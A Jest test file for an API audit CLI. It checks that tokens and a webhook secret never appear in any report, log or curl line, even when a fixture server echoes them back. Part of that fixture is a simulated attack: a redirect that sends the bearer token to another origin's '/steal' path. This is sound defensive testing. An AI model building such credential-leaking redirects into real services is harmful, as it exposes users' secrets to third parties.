// Secrets: a service that echoes the token everywhere it can (headers, cookies, bodies, escaped JSON,
// error pages, a cross-origin redirect) never gets it into any output byte of the audit.
import { afterEach, describe, expect, it } from '@jest/globals';
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import type { IncomingMessage, ServerResponse } from 'node:http';
import { packagePath } from '../../src/core/paths.js';
import { startExampleFixture, type FixtureServer } from '../../src/testing/fixture-server.js';
import { exampleEnv } from '../../src/testing/example-config.js';
import { cli, LIMITED_TOKEN, readAll, readReport, tempDir, TOKEN, WEBHOOK_SECRET } from './helpers.js';
import { startCounter } from './hostile.js';

const closers: Array<() => Promise<void>> = [];
afterEach(async () => {
  while (closers.length > 0) await closers.pop()!();
});

/** Every spelling of a secret a service might echo: raw, URL-encoded, JSON-escaped ("\/"), base64. */
function spellings(secret: string): string[] {
  return [
    secret,
    encodeURIComponent(secret),
    secret.replace(/\//g, '\\/'),
    JSON.stringify(secret).slice(1, -1),
    // the secret's distinctive middle part, so a cut or re-encoded copy is found too
    secret.slice(4, -4),
  ];
}

/** What the echoing middleware did, so the test cannot pass without the echoes happening. */
interface Echoes {
  headers: number;
  errorBodies: number;
  textBodies: number;
  redirects: number;
}

/**
 * Answers like the example API, plus: every response echoes the Authorization header and sets it
 * as a cookie; unknown ids get a text/plain page quoting it; bodies sent as text/plain get a 500
 * whose JSON quotes it raw, "\/"-escaped and \u-escaped; GET /orders redirects to another origin
 * with it in the query; GET on the base URL quotes the webhook secret.
 */
function echoing(echoes: Echoes, otherOrigin: string) {
  return (req: IncomingMessage, res: ServerResponse): boolean => {
    const auth = req.headers.authorization ?? '';
    const url = new URL(req.url ?? '/', 'http://x');
    if (auth) {
      res.setHeader('x-echo-authorization', auth);
      res.setHeader('set-cookie', `session=${encodeURIComponent(auth)}; Path=/`);
      echoes.headers++;
    }
    if (url.pathname === '/v1' || url.pathname === '/v1/') {
      res.writeHead(200, { 'content-type': 'application/json' });
      res.end(JSON.stringify({ service: 'echo', signingKey: WEBHOOK_SECRET }));
      return true;
    }
    if (auth && /\/(2[01]\d{8}|[^/]*conformance0missing[^/]*)$/.test(url.pathname)) {
      echoes.textBodies++;
      res.writeHead(404, { 'content-type': 'text/plain' });
      res.end(`No such thing. You sent: ${auth}`);
      return true;
    }
    if (auth && req.method === 'POST' && req.headers['content-type'] === 'text/plain') {
      echoes.errorBodies++;
      const escaped = auth.replace(/\//g, '\\/');
      const unicode = [...auth].map((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`).join('');
      res.writeHead(500, { 'content-type': 'application/json' });
      res.end(`{"error":"crashed on ${auth}","escaped":"${escaped}","unicode":"${unicode}"}`);
      return true;
    }
    if (auth && req.method === 'GET' && url.pathname === '/v1/orders') {
      echoes.redirects++;
      res.writeHead(307, { location: `${otherOrigin}/steal?auth=${encodeURIComponent(auth)}` });
      res.end();
      return true;
    }
    return false;
  };
}

describe('secrets never reach an output', () => {
  it('token, limited token and webhook secret: not in console, reports, HAR, step summary or curl lines', async () => {
    const other = await startCounter();
    closers.push(() => other.close());
    const echoes: Echoes = { headers: 0, errorBodies: 0, textBodies: 0, redirects: 0 };
    const server: FixtureServer = await startExampleFixture({
      tokens: { full: TOKEN, limited: LIMITED_TOKEN },
      webhookSecret: WEBHOOK_SECRET,
      middleware: echoing(echoes, other.origin),
    });
    closers.push(() => server.close());
    const dir = await tempDir();
    const out = join(dir, 'reports');
    const stepSummary = join(dir, 'step-summary.md');
    const run = await cli(
      [
        'run',
        '--config',
        packagePath('config', 'example.yaml'),
        '--base-url',
        server.baseUrl,
        '--out',
        out,
        '--reporter',
        'console,json,junit,html,markdown,har',
        '--verbose',
        '--no-color',
      ],
      { env: { ...exampleEnv(server), GITHUB_STEP_SUMMARY: stepSummary } },
    );
    expect(run.code).toBe(1);

    // The echoes happened, and the redirect to the other origin was not followed.
    expect(echoes.headers).toBeGreaterThan(10);
    expect(echoes.errorBodies).toBeGreaterThan(0);
    expect(echoes.textBodies).toBeGreaterThan(0);
    expect(echoes.redirects).toBeGreaterThan(0);
    expect(other.requests).toBe(0);

    const files = await readAll(out);
    files.set(stepSummary, await readFile(stepSummary));
    expect([...files.keys()].map((f) => f.split('/').pop()).sort()).toEqual(
      expect.arrayContaining([
        'conformance.json',
        'exchanges.har',
        'junit.xml',
        'report.html',
        'step-summary.md',
        'summary.md',
      ]),
    );
    const outputs: Array<[string, string]> = [
      ['stdout', run.stdout],
      ['stderr', run.stderr],
      ...[...files].map(([name, bytes]): [string, string] => [name, bytes.toString('utf8')]),
    ];
    const leaks: string[] = [];
    for (const secret of [TOKEN, LIMITED_TOKEN, WEBHOOK_SECRET]) {
      for (const spelling of spellings(secret)) {
        for (const [name, text] of outputs) if (text.includes(spelling)) leaks.push(`${spelling} in ${name}`);
      }
    }
    expect(leaks).toEqual([]);

    // What the user sees instead: [redacted] in evidence, $VAR in curl lines, where the redirect pointed.
    const report = await readReport(out);
    const evidence = report.results.flatMap((r) => r.evidence);
    expect(JSON.stringify(evidence)).toContain('[redacted]');
    expect(evidence.some((e) => e.curl.includes('"authorization: Bearer ${CONFORMANCE_TOKEN}"'))).toBe(true);
    const notes = evidence.flatMap((e) => e.notes ?? []);
    expect(notes.some((n) => n.includes(`${other.origin}/steal`) && n.includes('not followed'))).toBe(true);
  });
});
